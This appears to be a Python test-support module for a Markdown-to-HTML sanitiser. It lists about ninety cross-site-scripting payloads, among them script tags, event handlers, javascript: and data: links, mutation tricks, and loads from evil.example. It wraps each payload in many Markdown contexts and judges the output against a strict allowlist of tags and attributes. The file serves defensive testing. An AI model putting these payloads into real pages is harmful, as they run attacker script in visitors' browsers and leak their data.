"""A corpus of hostile author texts, and the judge of what may come out of them.

``snippets()`` gives every attack in every Markdown surrounding; ``faults(html)`` names what a browser
would find in the result that no text of ours needs. The judge keeps its own lists on purpose: it must not
learn what is allowed from the code it judges.
"""

import re
from collections.abc import Iterator

import html5lib

ATTACKS = (
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    '<img/src="x"/onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<math><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></math>",
    '<math href="javascript:alert(1)">x</math>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<form action=https://evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="https://x.dk" onclick="alert(1)" target=_blank>x</a>',
    '<mark id="sted-b1" onmouseover=alert(1)>x</mark>',
    '<p id="indhold" class="button" data-nr="9">x</p>',
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<table background=javascript:alert(1)><tr><td onclick=alert(1)>x</table>",
    "<b <script>alert(1)</script>0",
    "</p></div></main><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover=alert(1) x='",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;script&amp;gt;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    '[x](https://x.dk "onclick=alert(1)")',
    '[x](https://x.dk"onclick="alert(1))',
    "[x](https://x.dk'onclick='alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://x.dk/<script>alert(1)</script>>",
    "<a@b.dk><script>alert(1)</script>",
    "![x](https://evil.example/pixel.png)",
    '![x](javascript:alert(1) "y" onerror=alert(1))',
    "![x](x){onerror=alert(1)}",
    '![Et bad" onerror="alert(1)](billeder/bad.png)',
    '![Et bad `" onerror=alert(1) x=`](billeder/bad.png)',
    "![Et bad](billeder/bad.png){onerror=alert(1)}",
    "![Et bad](billeder/../static/site.js)",
    '<img alt="Et bad" src="/billeder/0123456789abcdef/bad.png" onerror=alert(1)>',
    "x{: onclick=alert(1) style=color:red}",
    "[x]{#b1 onclick=alert(1)}",
    '[x]{#"onclick="alert(1)}',
    "[<script>alert(1)</script>](https://x.dk)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "``` html\n<script>alert(1)</script>\n```",
    "klzzwxh:0000 wzxhzdk:0 qlzqqlzq",
)

SURROUNDINGS = (
    "{}",
    "Før {} efter",
    "**{}**",
    "*{}* og _{}_",
    "## {}",
    "### {}\n\nTekst",
    "- {}\n- {}",
    "1. {}\n\n    {}",
    "> {}\n>\n> {}",
    "| a | b |\n|---|--:|\n| {} | x |",
    "    {}",
    "[F1] {}",
    "[F1] [{}]{{#b1}}",
    "[{}](https://x.dk)",
    "[x](https://x.dk/?{})",
    "`{}`",
    "\\{}",
    "<p>{}",
    "{}\n=====",
    "\n\n{}\n\n---\n\n{}",
)


def snippets() -> Iterator[str]:
    """Yield every attack in every surrounding."""
    for surrounding in SURROUNDINGS:
        for attack in ATTACKS:
            yield surrounding.format(attack, attack)


_ATTRIBUTES = {
    "a": {"href", "rel"},
    "p": {"id", "data-nr"},
    "mark": {"id"},
    "div": {"class", "tabindex", "role", "aria-label"},
    "th": {"scope", "class"},
    "td": {"class"},
    "img": {"alt", "decoding", "height", "loading", "src", "width"},
}
_BARE = "h2 h3 h4 h5 h6 ul ol li blockquote strong em code br hr table thead tbody tr"
_TAGS = {*_ATTRIBUTES, *_BARE.split(), "html", "head", "body"}
_VALUES = {
    "href": r"https://[^/\s\\].*|/([^/\\].*)?|#[a-z0-9-]+",
    "rel": "noopener noreferrer",
    "id": r"(afsnit|sted)-[a-z0-9_-]+",
    "data-nr": r"\d+",
    "class": "tabelramme|tal-kol",
    "tabindex": "0",
    "role": "region",
    "scope": "col",
    "aria-label": "Tabel.*",
    "alt": '[^<>"]+',
    "decoding": "async",
    "loading": "lazy",
    "height": r"\d+",
    "width": r"\d+",
    "src": r"/billeder/[0-9a-f]{16}/[a-z]+\.png",
}


def faults(html: str) -> list[str]:
    """Return every tag, attribute and address in the HTML, as a browser reads it, that is not needed."""
    found = []
    for element in html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str) or element.tag not in _TAGS:
            found.append(f"tag {element.tag}")
            continue
        for name, value in element.attrib.items():
            if name not in _ATTRIBUTES.get(element.tag, set()):
                found.append(f"attribute {element.tag} {name}={value}")
            elif re.fullmatch(_VALUES[str(name)], value, re.DOTALL) is None:
                found.append(f"value {element.tag} {name}={value}")
        if element.tag == "img" and set(element.attrib) != _ATTRIBUTES["img"]:
            found.append("half a picture")
    return found
